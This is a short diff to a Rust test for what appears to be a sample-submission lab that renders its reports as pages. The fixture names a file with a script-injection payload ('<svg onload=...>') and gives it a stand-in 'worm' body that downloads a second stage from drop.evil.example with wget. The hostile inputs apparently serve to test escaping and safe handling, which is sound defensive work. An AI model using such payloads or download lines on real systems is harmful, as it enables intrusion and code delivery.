@@ -437,8 +437,7 @@ fn every_page_is_pictured_in_the_light_the_dark_and_on_a_telephone() {
     std::fs::write(&sample, "#!/bin/sh\necho hello\n").expect("a sample");
     let worm = site.home().join("<svg onload=window.ran=50>.sh");
     std::fs::write(&worm, "#!/bin/sh\n# a worm\nwget http://drop.evil.example/stage2\n").expect("a sample");
-    let program = PathBuf::from("/bin/true");
-    let samples = [&sample, &program, &worm].map(|file| file.to_str().expect("text"));
+    let samples = [sample.as_path(), Path::new("/bin/true"), &worm].map(|file| file.to_str().expect("text"));
     site.weir(&[&["lab", "submit"], &samples[..]].concat()).ok();
     wait_for("the reports", || {
         let list = site.json(&["lab", "list"]);
